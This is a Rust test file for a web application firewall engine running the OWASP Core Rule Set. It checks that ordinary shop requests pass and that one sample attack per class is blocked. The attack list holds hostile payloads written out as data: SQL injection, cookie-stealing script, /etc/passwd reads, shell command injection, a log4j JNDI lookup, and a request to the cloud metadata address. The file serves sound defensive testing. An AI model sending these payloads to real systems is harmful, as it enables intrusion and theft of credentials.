//! Decisions, not only matches: at the first paranoia level, with everything as the authors of the Core Rule Set ship it,
//! ordinary requests pass and one attack of each class is refused, for reasons that can be named.

use durward_seclang::ast::EngineMode;
use durward_seclang::overlay::OverlaySpec;
use durward_seclang::report::{Part, Reason};

use crate::drive::{Engine, Verdict, Worker};
use crate::ftw::backend::Backend;
use crate::ftw::server::Request;
use crate::{base, suites};

#[test]
fn crs4() {
    let Some(corpus) = suites::corpus("crs4") else { return };
    decide(&Engine::load(|loader| base::crs4(loader, &corpus, "")), |attack| attack.found_by_4);
}

#[test]
fn crs3() {
    let Some(rules) = suites::debian() else { return };
    decide(&Engine::load(|loader| base::crs3(loader, &rules, "")), |attack| attack.found_by_3);
}

/// The rule that refuses a request whose score is too high, in both generations.
const BLOCKING: u64 = 949_110;

fn decide(engine: &Engine, found_by: impl Fn(&Attack) -> Option<u64>) {
    let route = engine.route(&OverlaySpec { paranoia_level: Some(1), ..OverlaySpec::default() }).unwrap();
    let watching =
        OverlaySpec { mode: Some(EngineMode::DetectionOnly), paranoia_level: Some(1), ..OverlaySpec::default() };
    let watching = engine.route(&watching).unwrap();
    let mut worker = Worker::default();
    for (name, request) in ordinary() {
        let verdict = route.exchange(&request, Backend::Albedo, &mut worker);
        assert_eq!((verdict.status, verdict.logged().len()), (200, 0), "{name}: {verdict:#?}");
        assert_eq!(verdict.interruption, None, "{name}");
    }
    let mut faults = Vec::new();
    for attack in attacks() {
        let Some(rule) = found_by(&attack) else { continue };
        let verdict = route.exchange(&attack.request, Backend::Albedo, &mut worker);
        let watched = watching.exchange(&attack.request, Backend::Albedo, &mut worker);
        if let Err(why) = refused(&verdict, rule).and_then(|()| seen(&verdict, &watched)) {
            faults.push(format!("{}: {why}", attack.class));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

/// Whether a request was refused by its score, and the score names the rule that it is made of, with what that rule saw.
fn refused(verdict: &Verdict, found_by: u64) -> Result<(), String> {
    let found: Vec<u64> = verdict.logged().into_iter().collect();
    let Some(interruption) = &verdict.interruption else { return Err(format!("passed, with {found:?}")) };
    if (verdict.status, verdict.blocked_by()) != (403, Some(BLOCKING)) {
        return Err(format!("ended by {interruption}"));
    }
    let Reason::Rule { sum, message, .. } = &interruption.reason else { return Err("no rule".to_owned()) };
    let Some(part) = sum.iter().find(|part| part.rule.id.0 == found_by) else {
        return Err(format!("{found_by} is no part of {interruption}"));
    };
    let matched = part.index.and_then(|index| verdict.matches.get(index));
    let saw = matched.filter(|it| it.id().0 == found_by).and_then(|it| it.evidence.first());
    if part.amount <= 0 || saw.is_none_or(|saw| saw.value.is_empty()) {
        return Err(format!("{part:?} does not say what was seen"));
    }
    let total: i64 = sum.iter().map(|part: &Part| part.amount).sum();
    if !String::from_utf8_lossy(message).contains(&total.to_string()) {
        return Err(format!("the parts make {total}: {interruption}"));
    }
    Ok(())
}

/// Whether the same was found where nothing is refused.
fn seen(refused: &Verdict, watched: &Verdict) -> Result<(), String> {
    let (missing, status) = (refused.logged().difference(&watched.logged()).count(), watched.status);
    match (&watched.interruption, missing, status) {
        (None, 0, 200) => Ok(()),
        other => Err(format!("when only watching: {other:?}")),
    }
}

fn request(method: &str, target: &str, fields: &[(&str, &str)], body: &str) -> Request {
    let usual = [
        ("Host", "shop.example.org"),
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"),
        ("Accept", "text/html,application/json,*/*;q=0.8"),
        ("Accept-Language", "en-GB,en;q=0.7"),
    ];
    let own = |name: &str| fields.iter().any(|(own, _)| own.eq_ignore_ascii_case(name));
    let mut all: Vec<(String, String)> = usual
        .iter()
        .filter(|(name, _)| !own(name))
        .chain(fields)
        .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
        .collect();
    if method == "POST" {
        all.push(("Content-Length".to_owned(), body.len().to_string()));
    }
    Request {
        method: method.into(),
        target: target.into(),
        protocol: "HTTP/1.1".into(),
        fields: all.into_iter().map(|(name, value)| (name.into_bytes(), value.into_bytes())).collect(),
        body: body.into(),
    }
}

fn post(target: &str, media_type: &str, body: &str) -> Request {
    request("POST", target, &[("Content-Type", media_type)], body)
}

const FORM: &str = "application/x-www-form-urlencoded";
const UPLOAD: &str = "multipart/form-data; boundary=----WebKitFormBoundaryx7HrQ2";

fn upload(name: &str, content: &str) -> String {
    format!(
        "------WebKitFormBoundaryx7HrQ2\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\na picture of the \
         garden\r\n------WebKitFormBoundaryx7HrQ2\r\nContent-Disposition: form-data; name=\"file\"; \
         filename=\"{name}\"\r\nContent-Type: image/png\r\n\r\n{content}\r\n------WebKitFormBoundaryx7HrQ2--\r\n"
    )
}

/// What must pass, without a word in the log.
fn ordinary() -> Vec<(&'static str, Request)> {
    vec![
        ("page", request("GET", "/", &[], "")),
        ("health", request("GET", "/health", &[("User-Agent", "kube-probe/1.32"), ("Accept", "*/*")], "")),
        (
            "search",
            request("GET", "/items?q=garden+chairs&page=2&sort=price", &[("Cookie", "session=8f1e0c; theme=dark")], ""),
        ),
        (
            "form",
            post(
                "/orders",
                FORM,
                "name=Anna+Schmidt&street=Hauptstra%C3%9Fe+5&city=K%C3%B6ln&comment=Ring+twice%2C+please.",
            ),
        ),
        (
            "JSON",
            post(
                "/orders",
                "application/json",
                r#"{"customer":{"name":"Zoë O'Hara","email":"zoe@example.org"},"items":[{"sku":"CH-100","count":2,"price":79.90},{"sku":"TB-7","count":1,"price":199}],"gift":false,"note":null}"#,
            ),
        ),
        (
            "XML",
            post(
                "/orders",
                "application/xml",
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<order id=\"17\"><item sku=\"CH-100\">2</item><note>To the back door</note></order>",
            ),
        ),
        ("upload", post("/pictures", UPLOAD, &upload("garden.png", "\u{89}PNG\r\n\u{1a}\n....IHDR"))),
        (
            "update",
            request("POST", "/items/7", &[("Content-Type", "application/json; charset=utf-8")], r#"{"price":12}"#),
        ),
    ]
}

struct Attack {
    class: &'static str,
    request: Request,
    /// The rule that finds it, in CRS 3.3.4 (which does not know all of them) and in CRS 4.28.
    found_by_3: Option<u64>,
    found_by_4: Option<u64>,
}

/// One of each class.
fn attacks() -> Vec<Attack> {
    let get = |target: &str| request("GET", target, &[], "");
    let json = |body: &str| post("/orders", "application/json", body);
    let all = vec![
        (
            "SQL injection",
            get("/items?id=1'%20UNION%20SELECT%20username,password%20FROM%20users--%20-"),
            Some(942_100),
            Some(942_100),
        ),
        ("SQL injection in JSON", json(r#"{"a":{"id":["1' OR 1=1 -- -"]}}"#), Some(942_100), Some(942_100)),
        (
            "cross-site scripting",
            get("/items?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
            Some(941_100),
            Some(941_100),
        ),
        (
            "cross-site scripting in a form",
            post("/orders", FORM, "name=%3Cimg+src%3Dx+onerror%3Dalert%281%29%3E"),
            Some(941_100),
            Some(941_100),
        ),
        ("local file", get("/show?file=../../../../etc/passwd"), Some(930_100), Some(930_100)),
        ("remote file", get("/show?page=http://192.0.2.9/shell.txt?"), Some(931_100), Some(931_100)),
        ("shell command", get("/ping?host=127.0.0.1;cat%20/etc/passwd"), Some(932_160), Some(932_160)),
        ("PHP", get("/show?x=%3C?php%20system('id');?%3E"), Some(933_100), Some(933_100)),
        ("upload of PHP", post("/pictures", UPLOAD, &upload("garden.php", "x")), Some(933_110), Some(933_110)),
        ("log4j", request("GET", "/", &[("X-Api-Version", "${jndi:ldap://192.0.2.9/a}")], ""), None, Some(944_150)),
        ("Java", post("/orders", FORM, "x=java.lang.Runtime.getRuntime"), Some(944_100), Some(944_100)),
        (
            "Java in XML",
            post("/orders", "application/xml", "<a b=\"java.lang.ProcessBuilder\">java.lang.Runtime</a>"),
            Some(944_110),
            Some(944_110),
        ),
        (
            "session fixation",
            request("GET", "/login?PHPSESSID=4711", &[("Referer", "http://elsewhere.example.net/")], ""),
            Some(943_110),
            Some(943_110),
        ),
        ("header injection", get("/go?to=a%0d%0aSet-Cookie:%20a=b"), Some(921_120), Some(921_120)),
        (
            "scanner",
            request("GET", "/", &[("User-Agent", "sqlmap/1.9 (https://sqlmap.org)")], ""),
            Some(913_100),
            Some(913_100),
        ),
        ("Node.js", get("/calc?x=_$$ND_FUNC$$_function(){return%201}()"), Some(934_100), Some(934_100)),
        ("prototype pollution", json(r#"{"__proto__":{"isAdmin":true}}"#), None, Some(934_130)),
        (
            "request smuggling",
            post("/orders", FORM, "x=GET%20/admin%20HTTP/1.1%0d%0aHost:%20a"),
            Some(921_110),
            Some(921_110),
        ),
        ("method", request("DEBUG", "/", &[], ""), Some(911_100), Some(911_100)),
        ("template", get("/hello?name=%7B%7B7*7%7D%7D%7B%7Bself.__init__.__globals__%7D%7D"), None, Some(934_200)),
        ("server-side request", get("/fetch?url=http://169.254.169.254/latest/meta-data/"), None, Some(934_110)),
    ];
    all.into_iter()
        .map(|(class, request, found_by_3, found_by_4)| Attack { class, request, found_by_3, found_by_4 })
        .collect()
}
